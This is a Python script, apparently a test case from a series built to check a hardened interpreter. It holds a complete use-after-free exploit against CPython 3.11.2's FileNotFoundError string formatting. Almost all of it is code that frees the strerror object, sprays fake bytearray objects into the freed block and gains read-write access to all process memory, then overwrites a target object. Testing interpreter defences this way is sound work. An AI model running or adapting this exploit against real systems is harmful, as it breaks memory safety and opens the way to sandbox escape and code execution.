# family: wall (memory: FileNotFoundError.__str__, the strerror dropped by the errno's __str__)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X84 (the twelfth round's ok_05): another field (strerror, formatted
# with %S), another class (FileNotFoundError inherits OSError's __str__), another
# format ("[Errno %S] %S: %R"). OSError_str reads errno, strerror and filename into
# PyUnicode_FromFormat borrowed; the errno's __str__ (run first) sets e.strerror =
# None and e.args = () (args holds it too), which frees the strerror V (__slots__ of six: an 80-byte GC block); a spray
# of bytearray(FAKE) takes its block back with a fake PyByteArrayObject of the
# program's class BA (2**62 bytes at address 0), and the %S runs BA.__str__ on it:
# the program keeps a bytearray over all memory and writes another object's bytes.
# Plain python3 (the image's 3.11.2): MEMORY-OVERWRITTEN. The wall: OSError's
# fields keep what their setters replace (keep_set), the old strerror is formatted
# and nothing is freed.
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __str__(self):
        keep.append(self)                  # self: the fake, a BA over all memory
        return "x"
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:                                   # the strerror: an 80-byte GC block
    __slots__ = ("a", "b", "c", "d", "e", "f")
class Errno:
    def __str__(self):
        e.strerror = None                  # with the args below: the last references
        e.args = ()                        # to V (args holds errno and strerror too)
        for i in range(32):
            keep.append(bytearray(FAKE))
        return "2"
e = FileNotFoundError(Errno(), V(), "f")
text = str(e)
mem = keep[-1]
print(type(mem).__name__, hex(len(mem)), "|", text, flush=True)
target = bytearray(b"AAAAAAAA")
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # ob_start
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
